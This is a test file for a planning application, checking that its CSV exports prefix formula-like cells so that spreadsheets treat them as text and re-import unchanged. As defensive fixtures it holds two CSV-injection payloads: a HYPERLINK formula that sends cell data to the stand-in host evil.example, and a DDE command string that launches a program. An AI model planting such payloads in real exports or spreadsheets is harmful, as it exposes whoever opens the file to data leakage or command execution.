/**
 * Every CSV export goes through shared/export/csv.ts: text that a spreadsheet would run as a
 * formula arrives as text, and a register exported as CSV re-imports without changes.
 */
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { call, useTestServices } from '../helpers/services';

/** Host services in a scratch folder for this file (tests/helpers/services.ts). */
const { dir, services } = useTestServices();

const ATTACK = '=HYPERLINK("http://evil.example/?d="&A2;"Details")';
const CMD = "+cmd|' /C calc'!A0";
const meta = { title: 'Plan', districtName: 'Landkreis Test', kreisKey: '', periodFrom: 2026, periodTo: 2030, organisation: '', author: '' };

beforeAll(async () => {
  await call(services, 'plan.create', { path: path.join(dir, 'plan.sqlite'), meta });
});
const decode = (b64: string) => Buffer.from(b64, 'base64').toString('utf8');
/** The cells of a semicolon CSV line as a spreadsheet sees them (quotes removed). */
const cellsOf = (line: string) => (line.match(/("(?:[^"]|"")*"|[^;]*)(;|$)/g) ?? []).map((c) => c.replace(/;$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));

describe('CSV exports neutralise formulas', () => {
  it('in a stock register, and the export re-imports unchanged', async () => {
    await call(services, 'stock.save', { register: 'akteure', id: null, values: { name: ATTACK, kind: 'ehrenamt', note: CMD } });
    const file = await call(services, 'stock.export', { register: 'akteure', format: 'csv' });
    const lines = decode(file.contentBase64).split('\r\n');
    const cells = cellsOf(lines[1]!);
    expect(cells).toContain(`'${ATTACK}`);
    expect(cells).toContain(`'${CMD}`);
    expect(cells.every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);

    const preview = await call(services, 'stock.import.preview', { register: 'akteure', fileName: file.fileName, contentBase64: file.contentBase64, mapping: null });
    expect(preview.counts).toMatchObject({ unveraendert: 1, aktualisiert: 0, neu: 0, fehler: 0 });
  });

  it('in the measures export', async () => {
    await call(services, 'measures.create', {
      fieldId: 'hf09', title: CMD, description: '@SUMME(1+1)', responsibleActorId: null, responsibleText: '-2+3', partners: '', partnerActorIds: [],
      startDate: null, endDate: null, priority: 'mittel', status: 'geplant', costOnce: 5, costYearly: null, fundingProgrammeId: null, financingNote: '',
      needIds: [], gemeindeIds: [], planningAreaIds: [],
    });
    const result = await call(services, 'measures.exportFile', { kind: 'csv', path: null, today: '2026-05-01' });
    const cells = cellsOf(decode(result.base64).split('\r\n')[1]!);
    expect(cells).toEqual(expect.arrayContaining([`'${CMD}`, "'@SUMME(1+1)", "'-2+3", '5']));
  });
});
